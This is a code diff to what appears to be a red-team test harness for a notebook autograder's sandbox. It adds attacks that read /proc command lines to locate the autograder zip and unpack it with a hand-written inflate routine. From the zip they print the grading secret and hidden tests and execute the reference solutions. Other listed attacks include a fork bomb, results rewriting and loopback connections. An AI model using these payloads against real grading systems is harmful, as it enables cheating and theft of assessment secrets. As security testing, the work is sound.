@@ -59,6 +59,10 @@ FUNCTIONS = tuple(SIGNATURES)
 #: ``gradescope-like``: `otter run` as root with bubblewrap hidden and only the zip's runtime
 #: installed, in a private mount namespace with the ``/autograder`` layout.
 PATHS = ("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")
+#: The paths where a sandbox user could see what the grading machine keeps beside the sandbox
+#: (``grader-grade`` hides it behind bubblewrap; ``otter-run`` is bubblewrap too, but the plugin
+#: is the one that must guard otter's zip).
+OTTER_AND_USER_PATHS = ("grader-grade-user", "otter-run", "gradescope-like")
 
 
 def marker(name: str) -> str:
@@ -354,12 +358,16 @@ def _adv_detach():
 def reference_from_packages(stub, ctx):
     """Import the reference (solutions, autograder) or copy it in from any file on disk."""
     cell = SEARCH + r'''
-import importlib, importlib.util
 _REF = {}
+try:
+    import importlib.util as _util
+except BaseException as _e:   # below bubblewrap the interpreter's own library may be out of reach
+    _util = None
+    print(_MARK, "importlib.util unavailable:", type(_e).__name__)
 for _mod in ("solutions", "solutions.head_and_loss", "autograder", "autograder.runtime.judge",
              "lmhead_support.solutions.head_and_loss", "head_and_loss"):
     try:
-        _m = importlib.import_module(_mod)
+        _m = __import__(_mod, fromlist=["_"])
         for _n in dir(_m):
             _REF.setdefault(_n, getattr(_m, _n))
     except BaseException as _e:
@@ -376,11 +384,16 @@ for _path in _adv_find(_REFERENCE_FILES):
     try:
         _top = os.path.dirname(os.path.dirname(_path))
         sys.path.insert(0, _top)
-        _spec = importlib.util.spec_from_file_location("adv_ref_%d" % len(_REF), _path)
-        _m = importlib.util.module_from_spec(_spec)
-        _spec.loader.exec_module(_m)
-        for _n in dir(_m):
-            _REF.setdefault(_n, getattr(_m, _n))
+        if _util is not None:
+            _spec = _util.spec_from_file_location("adv_ref_%d" % len(_REF), _path)
+            _m = _util.module_from_spec(_spec)
+            _spec.loader.exec_module(_m)
+            _ns = vars(_m)
+        else:
+            _ns = {"__name__": "adv_ref_%d" % len(_REF)}
+            exec(compile(open(_path, "rb").read(), _path, "exec"), _ns)
+        for _n, _v in list(_ns.items()):
+            _REF.setdefault(_n, _v)
         print(_MARK, "copied the reference from", _path)
     except BaseException as _e:
         print(_MARK, "could not load", _path, type(_e).__name__)
@@ -658,7 +671,8 @@ def loopback(stub, ctx):
     cell = r'''
 import socket
 def _adv_connect(where):
-    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
+    # bytes hosts need no idna codec, which a sandbox user may be unable to import
+    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", b"127.0.0.1", b"::1"):
         for port in (__PORT__, __PORT__ + 1, 22, 80, 8888):
             try:
                 s = socket.create_connection((host, port), timeout=0.5)
@@ -904,11 +918,246 @@ def markup_in_names(stub, ctx):
     return zip_members(nb, extra), "zip"
 
 
+
+# ----------------------------------------------------------------- what the build left on the machine
+
+#: A zip reader in the language alone: below bubblewrap the sandbox user may be unable to import
+#: ``zipfile`` or ``zlib`` (the interpreter's own library can be out of its reach), not to read.
+INFLATE = r"""
+def _adv_u(b, at, n):
+    return int.from_bytes(b[at:at + n], "little")
+
+def _adv_zip_members(blob):
+    end = blob.rfind(b"PK\x05\x06")
+    count, at = _adv_u(blob, end + 10, 2), _adv_u(blob, end + 16, 4)
+    members = {}
+    for _ in range(count):
+        method, size, nlen = _adv_u(blob, at + 10, 2), _adv_u(blob, at + 20, 4), _adv_u(blob, at + 28, 2)
+        elen, clen, local = _adv_u(blob, at + 30, 2), _adv_u(blob, at + 32, 2), _adv_u(blob, at + 42, 4)
+        members[blob[at + 46:at + 46 + nlen].decode("utf-8", "replace")] = (method, size, local)
+        at += 46 + nlen + elen + clen
+    return members
+
+def _adv_zip_read(blob, member):
+    method, size, local = member
+    start = local + 30 + _adv_u(blob, local + 26, 2) + _adv_u(blob, local + 28, 2)
+    data = blob[start:start + size]
+    if method == 0:
+        return data
+    try:
+        import zlib
+        return zlib.decompress(data, -15)
+    except ImportError:
+        return _adv_inflate(data)
+
+def _adv_inflate(data):
+    out, pos = bytearray(), [0]
+    def bits(n):
+        v = 0
+        for i in range(n):
+            p = pos[0]
+            v |= ((data[p >> 3] >> (p & 7)) & 1) << i
+            pos[0] = p + 1
+        return v
+    def table(lengths):
+        top = max(lengths)
+        counts = [0] * (top + 1)
+        for n in lengths:
+            if n:
+                counts[n] += 1
+        code, following = 0, [0] * (top + 2)
+        for n in range(1, top + 1):
+            code = (code + counts[n - 1]) << 1
+            following[n] = code
+        codes = {}
+        for symbol, n in enumerate(lengths):
+            if n:
+                codes[(n, following[n])] = symbol
+                following[n] += 1
+        return codes
+    def decode(codes):
+        code = n = 0
+        while n < 16:
+            code, n = (code << 1) | bits(1), n + 1
+            if (n, code) in codes:
+                return codes[(n, code)]
+        raise ValueError("bad deflate code")
+    lbase = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131,
+             163, 195, 227, 258]
+    lextra = [0] * 8 + [1] * 4 + [2] * 4 + [3] * 4 + [4] * 4 + [5] * 4 + [0]
+    dbase = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025, 1537,
+             2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
+    dextra = [0, 0, 0, 0] + [k // 2 for k in range(2, 28)]
+    final = 0
+    while not final:
+        final, kind = bits(1), bits(2)
+        if kind == 0:
+            at = (pos[0] + 7) >> 3
+            n = data[at] | data[at + 1] << 8
+            out += data[at + 4:at + 4 + n]
+            pos[0] = (at + 4 + n) << 3
+            continue
+        if kind == 1:
+            lit, dist = table([8] * 144 + [9] * 112 + [7] * 24 + [8] * 8), table([5] * 30)
+        else:
+            hlit, hdist, hclen = bits(5) + 257, bits(5) + 1, bits(4) + 4
+            order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
+            cl = [0] * 19
+            for i in range(hclen):
+                cl[order[i]] = bits(3)
+            clt, lengths = table(cl), []
+            while len(lengths) < hlit + hdist:
+                symbol = decode(clt)
+                if symbol < 16:
+                    lengths.append(symbol)
+                elif symbol == 16:
+                    lengths += [lengths[-1]] * (3 + bits(2))
+                elif symbol == 17:
+                    lengths += [0] * (3 + bits(3))
+                else:
+                    lengths += [0] * (11 + bits(7))
+            lit, dist = table(lengths[:hlit]), table(lengths[hlit:])
+        while True:
+            symbol = decode(lit)
+            if symbol < 256:
+                out.append(symbol)
+            elif symbol == 256:
+                break
+            else:
+                symbol -= 257
+                n = lbase[symbol] + bits(lextra[symbol])
+                d = decode(dist)
+                back = dbase[d] + bits(dextra[d])
+                for _ in range(n):
+                    out.append(out[-back])
+    return bytes(out)
+"""
+
+
+#: Takes the reference from what an instructor's machine holds besides the sandbox: an
+#: autograder zip (hidden tests, references, the secret) or a solution notebook. Paths come
+#: from every process's command line (``otter run -a ZIP``, ``grader grade -a ZIP``), resolved
+#: against that process's working folder where it can be read, and from the build's layout
+#: around them (``DIST/<name>/autograder/autograder.zip`` beside ``DIST/<name>/solution/``).
+STOLEN = r"""
+import re
+_REF = {}
+_NAMES = ("next_token_batch", "lm_head", "softmax", "cross_entropy_loss", "lm_head_backward",
+          "numerical_gradient", "max_rel_err")
+""" + INFLATE + r"""
+def _adv_take(ns, where):
+    got = [n for n in _NAMES if callable(ns.get(n)) and n not in _REF]
+    for n in got:
+        _REF[n] = ns[n]
+    if got:
+        print(_MARK, "took", got, "from", where, flush=True)
+
+def _adv_from_zip(path):
+    try:
+        with open(path, "rb") as h:
+            blob = h.read()
+        members = _adv_zip_members(blob)
+        for name in members:
+            if name.endswith("hidden_config.json"):
+                found = re.search(r'"secret"\s*:\s*"([0-9a-f]+)"', _adv_zip_read(blob, members[name]).decode())
+                print(_MARK, "SECRET", found and found.group(1), flush=True)
+            elif "/hidden/test_q" in name:
+                print(_MARK, "HIDDEN", name, _adv_zip_read(blob, members[name]).decode("utf-8", "replace")[:1500],
+                      flush=True)
+        for name in members:
+            if name.endswith("solutions/head_and_loss.py"):
+                ns = {"__name__": "adv_ref"}
+                exec(compile(_adv_zip_read(blob, members[name]), path + "/" + name, "exec"), ns)
+                _adv_take(ns, path)
+    except Exception as e:
+        print(_MARK, "could not read", path, type(e).__name__, e, flush=True)
+
+def _adv_from_notebook(path):
+    try:
+        import json
+        with open(path, encoding="utf-8") as h:
+            nb = json.load(h)
+        ns = {"__name__": "adv_nb"}
+        exec("import numpy as np", ns)
+        for cell in nb.get("cells", []):
+            src = cell.get("source", "")
+            src = "".join(src) if isinstance(src, list) else str(src)
+            if cell.get("cell_type") == "code" and any("def %s(" % n in src for n in _NAMES):
+                try:
+                    exec(src, ns)
+                except Exception:
+                    pass
+        _adv_take(ns, path)
+    except Exception as e:
+        print(_MARK, "could not read", path, type(e).__name__, e, flush=True)
+
+def _adv_cmdline_zips():
+    found = []
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            with open("/proc/%s/cmdline" % pid, "rb") as h:
+                args = h.read().decode("utf-8", "replace").split("\0")
+        except OSError:
+            continue
+        try:
+            cwd = os.readlink("/proc/%s/cwd" % pid)
+        except OSError:
+            cwd = None
+        for arg in args:
+            for value in {arg, arg.split("=", 1)[-1]}:
+                if not value.endswith(".zip"):
+                    continue
+                for path in ([value] if os.path.isabs(value) else
+                             [os.path.join(b, value) for b in (cwd, os.getcwd()) if b]):
+                    path = os.path.normpath(path)
+                    if path not in found:
+                        found.append(path)
+    print(_MARK, "zips named by processes:", found[:20], flush=True)
+    return found
+"""
+
+
+def zip_from_process_list(stub, ctx):
+    """Read the autograder zip named in any process's command line (``otter run -a``)."""
+    cell = SEARCH + STOLEN + r"""
+for _path in _adv_cmdline_zips():
+    _adv_from_zip(_path)
+print(_MARK, "reference functions found:", sorted(_REF), flush=True)
+"""
+    body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
+    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"
+
+
+def build_outputs_nearby(stub, ctx):
+    """Find the build's output around the zips processes name and where an instructor keeps
+    it (the working folders and their parents, /autograder, home): solution notebooks and
+    autograder zips, and take the reference from them."""
+    cell = SEARCH + STOLEN + r"""
+for _zip in _adv_cmdline_zips():
+    _dist = os.path.dirname(os.path.dirname(_zip))        # DIST/<name>/autograder/autograder.zip
+    for _near in (_dist, os.path.dirname(_dist)):
+        if _near not in _PLACES:
+            _PLACES.insert(0, _near)
+for _path in _adv_find(["*/solution/*.ipynb", "*solution*.ipynb", "*/autograder/*.zip", "*autograder*.zip"],
+                       budget=60000):
+    print(_MARK, "FOUND", _path, flush=True)
+    if _path.endswith(".ipynb"):
+        _adv_from_notebook(_path)
+    else:
+        _adv_from_zip(_path)
+print(_MARK, "reference functions found:", sorted(_REF), flush=True)
+"""
+    body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
+    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"
+
+
 ATTACKS: tuple[Attack, ...] = (
     Attack("reference_from_packages", "import the reference from installed packages or copy it from disk",
-           reference_from_packages, (r"returned None|should (return|be)|is not a tuple|got None",)),
+           reference_from_packages, (r"returned None|should (return|be)|is not a tuple|got None",), paths=PATHS),
     Attack("hidden_tests_on_disk", "find the hidden tests and references on disk and print them",
-           hidden_tests_on_disk, (r"returned None|should (return|be)|got None",)),
+           hidden_tests_on_disk, (r"returned None|should (return|be)|got None",), paths=PATHS),
     Attack("monkeypatching", "patch numpy, math, pytest, otter and builtins, then return noise",
            monkeypatching, (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
     Attack("ndarray_subclass", "return ndarray subclasses whose comparisons always agree",
@@ -940,13 +1189,13 @@ ATTACKS: tuple[Attack, ...] = (
                {"softmax": "    return len(bytearray(100 * 2**30))\n"})), "zip"),
            (r"MemoryError",)),
     Attack("fork_bomb", "a bounded fork bomb at import and inside a call", fork_bomb,
-           (r"forked \d+ processes|Resource temporarily unavailable|BlockingIOError|stopped",)),
+           (r"forked \d+ processes|Resource temporarily unavailable|BlockingIOError|stopped",), paths=PATHS),
     Attack("results_rewriter", "a detached process rewriting every results.json and CSV for 40 s",
-           results_rewriter, (r"returned None|should (return|be)|got None",)),
+           results_rewriter, (r"returned None|should (return|be)|got None",), paths=PATHS),
     Attack("files_outside", "write files outside its folder: /tmp, cwd and parents, home, the repository",
-           files_outside, (r"returned None|should (return|be)|got None",)),
+           files_outside, (r"returned None|should (return|be)|got None",), paths=PATHS),
     Attack("loopback", "connect to a loopback port of the grading machine", loopback,
-           (r"ConnectionRefusedError|OSError|timeout|gaierror",)),
+           (r"ConnectionRefusedError|OSError|timeout|gaierror",), paths=PATHS),
     Attack("huge_output", "print 200 MB", huge_output, (r"Output truncated: your notebook printed about",)),
     Attack("planted_files", "conftest.py, sitecustomize.py, numpy.py and friends beside the notebook",
            planted_files, (r"conftest\.py",)),
@@ -971,6 +1220,12 @@ ATTACKS: tuple[Attack, ...] = (
            markup_in_output, (r"raised",)),
     Attack("markup_in_names", "live HTML and formulas in file names, a bad cell and the metadata",
            markup_in_names, (r"files grading does not use|were not used",)),
+    Attack("zip_from_process_list", "read the autograder zip named in any process's command line",
+           zip_from_process_list, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=OTTER_AND_USER_PATHS),
+    Attack("build_outputs_nearby", "take the reference from solution notebooks and zips near the grader",
+           build_outputs_nearby, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=OTTER_AND_USER_PATHS),
 )
 
 BY_NAME = {a.name: a for a in ATTACKS}
